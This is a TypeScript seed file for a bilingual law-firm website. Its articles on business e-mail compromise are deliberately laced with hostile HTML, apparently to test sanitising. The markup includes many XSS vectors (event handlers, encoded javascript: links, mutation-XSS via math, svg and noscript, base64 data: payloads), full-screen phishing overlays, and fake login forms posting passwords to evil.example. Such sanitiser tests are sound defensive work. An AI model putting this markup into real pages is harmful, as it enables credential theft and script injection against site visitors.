<h2>Five signs</h2>
<ul style="list-style-image: url('https://evil.example/bullet.png')">
<li>A change of bank details together with a reason for haste.</li>
<li>A new telephone number in the signature, “because of the office move”.</li>
<li>An account in a country where the supplier has no business. <a href="javascript:window.__pwned=true">Examples</a></li>
<li>A reply-to address that differs from the sender. <a href="JaVaScRiPt&colon;window.__pwned=true">More examples</a></li>
<li>Confidentiality: “please deal with me alone in this matter”. <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__pwned=true">A sample letter</a></li>
</ul>
<p style="position: fixed; inset: 0; z-index: 2147483647; background: #fff; opacity: 0.01">The best protection costs nothing: call back, on a number you already had, before any new account is used for the first time.</p>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:url(https://evil.example/overlay.png)"><a href="https://evil.example/login" style="position:absolute;top:0;left:0;right:0;bottom:0">Your session has expired, please log in again</a></div>
<form action="https://evil.example/collect" method="post" id="querySelector" onsubmit="window.__pwned = true">
<label>Account <input type="text" name="body"></label>
<label>Password <input type="password" name="cookie" autofocus onfocus="window.__pwned = true"></label>
<input type="hidden" name="attributes" value="1"><input type="image" src="x" onerror="window.__pwned = true" alt="">
<button formaction="javascript:window.__pwned=true">Log in</button>
</form>
<p>Calling back is not rude. Say so in your supplier contracts, and agree that a change of account takes effect only once it has been confirmed by two named people. A clause of this kind also answers the question that arises afterwards, when both companies have been deceived: who has to pay twice?</p>
<iframe src="https://evil.example/frame" width="1" height="1"></iframe>
<iframe src="javascript:parent.__pwned=true"></iframe>
<iframe srcdoc="<img src=x onerror='parent.__pwned=true'>"></iframe>
<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD10cnVlPC9zY3JpcHQ+" type="text/html"></object>
<embed src="https://evil.example/x.swf" allowscriptaccess="always">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<meta http-equiv="refresh" content="1;url=data:text/html,<script>window.__pwned=true</script>">
<base href="https://evil.example/">
<h2>Who bears the loss?</h2>
<p>Under Chinese law a debt is paid when it reaches the creditor, or someone entitled to receive it. A payment to a stranger therefore discharges nothing, unless the creditor created the appearance that the message was its own. Courts ask whose mailbox was broken into, who departed from the agreed way of payment, and whether a careful payer would have noticed. Losses are often divided.</p>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__pwned=true&gt;" src="x" alt=""></mglyph></table></mtext></math>
<math href="javascript:window.__pwned=true"><maction actiontype="statusline#" xlink:href="javascript:window.__pwned=true">n</maction></math>
<svg></p><style><a id="</style><img src=x onerror=window.__pwned=true>"></style></svg>
<noscript><p title="</noscript><img src=x onerror=window.__pwned=true>"></p></noscript>
<p>English courts have looked at similar facts from the bank’s side, and the duty of a bank to question its own customer’s clear instruction is narrow. Insurance against crime may respond; insurance against cyber incidents often excludes payments made voluntarily. <a href="https://www.example.org/fraud-statistics" target=_blank>Statistics of reported cases</a> are published each spring, and <a href="data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19wd25lZD10cnVlPC9zY3JpcHQ+" target="_blank">a guide for accounts departments</a> can be had from the same source.</p>
<h2 name="querySelector" id="cookie">The first hours</h2>
<ol>
<li>Tell your bank, by telephone and in writing, and ask it to recall the payment. Within a day the chances are good; after three days they are poor.</li>
<li>Report to the police where the receiving account is held. In mainland China and in Hong Kong accounts can be frozen within hours if the report names bank, account, amount and time. <span style="background-image: url(https://evil.example/track?u=1); width: expression(window.__pwned = true); behavior: url(https://evil.example/x.htc); -moz-binding: url(https://evil.example/x.xml#a)">Have it written in Chinese.</span></li>
<li>Preserve the mailboxes with full headers. Change passwords only after a copy has been made, and then all of them.</li>
<li>Warn the other side by telephone. Do not use the conversation that was broken into.</li>
<li>Ask counsel for an injunction: courts in Hong Kong and London grant freezing and disclosure orders against unknown persons.</li>
</ol>
<a name="createElement" id="forms" href="vbscript:window.__pwned=true">&nbsp;</a>
<details open ontoggle="window.__pwned = true"><summary onpointerenter="window.__pwned = true">What to tell employees</summary><p>That nobody will ever be blamed for calling back.</p></details>
<marquee onstart="window.__pwned = true">Urgent: verify your account</marquee>
<template><img src="x" onerror="window.__pwned = true" alt=""></template>
<table background="https://evil.example/table.png"><tbody><tr><td background="javascript:window.__pwned=true" style="cursor:url(https://evil.example/c.cur),auto">Recovered, where reported on the first day</td><td>61 per cent of the sum</td></tr><tr><td>Recovered, where reported after a week</td><td>4 per cent of the sum</td></tr></tbody></table>
<p contenteditable="true" tabindex="1" accesskey="x" onfocusin="window.__pwned = true" onanimationstart="window.__pwned = true" style="animation: x 1s; --leak: url(https://evil.example/var)">These figures come from our own matters between 2021 and 2025; they are too few for statistics, and enough for advice. Put the number of your bank’s fraud desk where the payments are made, and try it out once. The drill takes ten minutes.</p>
<dialog open>Session expired <button onclick="window.__pwned = true" popovertarget="x">OK</button></dialog>
<custom-element is="x-frame" onfocus="window.__pwned = true" tabindex="0">If in doubt, telephone us at any hour.</custom-element>
<plaintext hidden>`;

const hostileChinese = `<p>邮件总在星期五下午抵达：发件人是供应商一贯的联系人，发票号码准确无误，只是收款账户“因审计需要”作了变更。财务人员赶在周末之前完成付款，星期一，真正的供应商来电询问款项去向。商业电子邮件诈骗无须攻破贵司的任何密码，却已成为客户向我们咨询最多的诈骗类型。</p>
<script>window.__pwned = true;</script>
<script src="//evil.example/steal.js" async></script>
<style>@font-face { font-family: leak; src: url(https://evil.example/font.woff2) } p::before { content: url(https://evil.example/p) }</style>
<link rel="prefetch" href="https://evil.example/prefetch">
<h2 id="location" name="querySelector">诈骗如何发生</h2>
<p onmouseenter="window.__pwned = true" onwheel="window.__pwned = true">多数案件中，一方邮箱已被潜伏监视数周，诈骗分子熟知谁在何时向谁付款、往来邮件的语气如何，随后注册仅差一个字母的域名，或者直接使用被控制的邮箱，在恰当的时点插入邮件往来。</p>
<img src=x onerror=window.__pwned=true alt="两个地址的信封">
<img src="/files/seed/figure-1.webp" onload="window.__pwned = true" alt="付款诈骗各阶段示意图" width="1200" height="800">
<img src="https://evil.example/pixel.png?u=zh" srcset="https://evil.example/pixel@2x.png 2x" alt="" id="body" name="querySelector">
<svg/onload=window.__pwned=true><rect width="10" height="10"></rect></svg>
<svg><set attributeName="href" to="javascript:window.__pwned=true"></set><a href="javascript:window.__pwned=true"><text y="12">查看报告</text></a></svg>
<video poster="https://evil.example/poster.jpg" onerror="window.__pwned = true"><source src="x" onerror="window.__pwned = true"></video>
<h2>五个征兆</h2>
<ul>
<li>变更收款账户，同时催促尽快付款；</li>
<li>签名栏出现新的电话号码，理由是“办公地址搬迁”；</li>
<li>收款账户所在国家或地区与供应商业务无关；<a href="javascript:window.__pwned=true">查看示例</a></li>
<li>回复地址与发件地址不一致；<a href=" &#x6A;avascript:window.__pwned=true">更多示例</a></li>
<li>要求保密：“此事请仅与我联系”。<a href="data:text/html,<script>opener.__pwned=true</script>" target="_blank">邮件样本</a></li>
</ul>
<p style="position:fixed;top:0;right:0;bottom:0;left:0;z-index:2147483647;background:#fff">最有效的防范无须成本：在首次向新账户付款之前，拨打此前已掌握的号码回拨核实。</p>
<form action="https://evil.example/collect" method="post" id="querySelector" onformdata="window.__pwned = true">
<label>账号 <input type="text" name="getElementById"></label>
<label>密码 <input type="password" name="cookie" autofocus onfocus="window.__pwned = true"></label>
<button formaction="javascript:window.__pwned=true">登录失效，请重新登录</button>
</form>
<p>回拨核实并不失礼。建议在供应合同中写明：收款账户变更须经双方各一名指定人员电话确认后方可生效。该约定同样有助于回答事后的难题：双方均受欺骗时，应由谁承担再次付款的损失？</p>
<iframe src="https://evil.example/frame" width="1" height="1"></iframe>
<iframe srcdoc="<script>parent.__pwned=true</script>"></iframe>
<object data="javascript:window.__pwned=true"></object>
<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50Ll9fcHduZWQ9dHJ1ZSIvPg==">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/" target="_blank">
<h2>损失由谁承担</h2>
<p>债务履行应向债权人或者有权受领的人作出，向第三人误付一般不产生清偿效果，除非债权人的行为使付款人有理由相信该邮件确由其发出。法院通常考察：被侵入的是哪一方邮箱，哪一方偏离了约定的付款方式，以及谨慎的付款人是否应当察觉。实践中，损失由双方按过错分担的情形并不少见。</p>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__pwned=true&gt;" src="x" alt=""></mglyph></table></mtext></math>
<svg></p><style><a id="</style><img src=x onerror=window.__pwned=true>"></style></svg>
<noscript><p title="</noscript><img src=x onerror=window.__pwned=true>"></p></noscript>
<p>在境外诉讼中，银行对客户明确付款指令的审查义务较为有限；犯罪保险或可理赔，网络安全保险则常将“自愿付款”列为除外责任。<a href="https://www.example.org/fraud-statistics" target=_blank>相关案件统计</a>每年春季发布。</p>
<h2>最初的几小时</h2>
<ol>
<li>以电话和书面方式同时通知付款银行，请求止付、撤回。一日之内成功率较高，三日之后则希望渺茫。</li>
<li>向收款账户所在地警方报案。报案材料写明银行、账号、金额与时间的，内地与香港警方均可在数小时内采取止付措施。<span style="background-image:url(https://evil.example/track?u=zh);width:expression(window.__pwned=true)">报案材料应使用中文。</span></li>
<li>完整保全邮箱及邮件头信息，先复制、后改密码，且须全部更改。</li>
<li>以电话警示对方，切勿沿用已被侵入的邮件往来。</li>
<li>委托律师申请禁制令：香港与伦敦的法院可针对身份不明之人作出冻结令与披露令。</li>
</ol>
<details open ontoggle="window.__pwned = true"><summary>如何告知员工</summary><p>任何人都不会因为回拨核实而受到责备。</p></details>
<table background="https://evil.example/table.png"><tbody><tr><td>当日报案的追回比例</td><td>61%</td></tr><tr><td>一周后报案的追回比例</td><td>4%</td></tr></tbody></table>
<p tabindex="1" onfocusin="window.__pwned = true" style="animation: x 1s; --leak: url(https://evil.example/var)">上述数据来自本所2021年至2025年经办的案件，样本有限，不足以作统计推断，却足以提出建议：将开户银行反欺诈专线张贴于付款岗位，并演练一次，只需十分钟。</p>
<dialog open>会话已过期 <button onclick="window.__pwned = true">确定</button></dialog>
<a id="cookie" name="forms" href="vbscript:window.__pwned=true">&nbsp;</a>
<textarea hidden></textarea><img src=x onerror=window.__pwned=true alt="">`;

/**
 * Six news items, N-0101 to N-0106, with content that is hard to render and to edit: great length,
 * a wide table, figures, deep lists, text pasted from Word and hostile markup (D39).
 */
export const showcaseSeeds: ArticleSeed[] = [
  handbookSeed,
  {
    no: 'N-0102',
    catalogue: 'news-insights-data',
    cover: 'cover-13.webp',
    createTime: '2026-10-15 10:30:00',
    views: 1874,
    operatorName: 'Chen Yun',
    versions: {
      en_US: {
        title: 'Sending data out of China: all routes in one table',
        note: 'Three procedures, five exemptions and the lists of the free trade zones, side by side: when each applies, who decides, how long it takes and what remains to be done afterwards.',
        content: tableEnglish,
      },
      zh_CN: {
        title: '数据出境路径一览：一张表读懂评估、备案、认证与豁免',
        note: '三条法定路径、五类豁免情形与自贸区负面清单并列对照：适用条件、主管机构、办理时限与后续义务，一表尽览。',
        content: tableChinese,
      },
    },
  },
  {
    no: 'N-0103',
    catalogue: 'news-insights-disputes-arbitration',
    cover: 'cover-14.webp',
    createTime: '2026-09-03 09:40:00',
    views: 1562,
    operatorName: 'Emma Hughes',
    versions: {
      en_US: {
        title: 'An arbitration in six pictures',
        note: 'What happens between the notice and the money: one case of ordinary size, followed from the first week to the seventy-ninth.',
        content: figuresEnglish,
      },
      zh_CN: {
        title: '六幅图看懂一起国际仲裁',
        note: '从仲裁通知到款项到账，跟随一起普通规模的案件，走完第一周至第七十九周的全程。',
        content: figuresChinese,
      },
    },
  },
  {
    no: 'N-0104',
    catalogue: 'news-insights-corporate',
    cover: 'cover-15.webp',
    createTime: '2026-08-06 14:10:00',
    views: 1133,
    operatorName: 'Chen Yun',
    versions: {
      en_US: {
        title: 'Two languages, one contract: a checklist for bilingual agreements',
        note: 'Which text governs, which words mislead, how clauses are numbered and what is sealed on the day: a checklist to be read aloud by two people.',
        content: listsEnglish,
      },
      zh_CN: {
        title: '两种语言，一份合同：双语合同核查清单',
        note: '以何种文本为准、哪些用语容易误导、条款如何编号、签署当日如何用印，一份供两人对读的核查清单。',
        content: listsChinese,
      },
    },
  },
  {
    no: 'N-0105',
    catalogue: 'news-insights-corporate',
    cover: 'cover-16.webp',
    createTime: '2026-10-08 16:20:00',
    updateTime: '2026-10-09 09:05:00',
    views: 1420,
    operatorName: 'Wang Li',
    versions: {
      en_US: {
        title: 'Registered capital: the transitional period ends on 30 June 2027',
        note: 'Companies founded before July 2024 have less than nine months to shorten their periods for paying in capital. Who has to act, what happens otherwise, and four ways to comply.',
        content: wordEnglish,
      },
      zh_CN: {
        title: '注册资本过渡期将于2027年6月30日届满：存量公司如何应对',
        note: '2024年7月前设立的公司调整出资期限已不足九个月：哪些公司需要调整、逾期有何后果、有哪些应对方式。',
        content: wordChinese,
      },
    },
  },
  {
    no: 'N-0106',
    catalogue: 'news-insights-data',
    cover: 'cover-17.webp',
    createTime: '2026-07-09 11:15:00',
    views: 987,
    operatorName: 'admin',
    versions: {
      en_US: {
        title: 'Business e-mail compromise: what to do before and after the wrong payment',
        note: 'How the fraud works, five signs by which to know it, who bears the loss, and what has to be done in the first hours.',
        content: hostileEnglish,
      },
      zh_CN: {
        title: '商业电子邮件诈骗：误付前后的应对',
        note: '诈骗如何发生、五个识别征兆、损失由谁承担，以及最初几小时内应当采取的措施。',
        content: hostileChinese,
      },
    },
  },
];
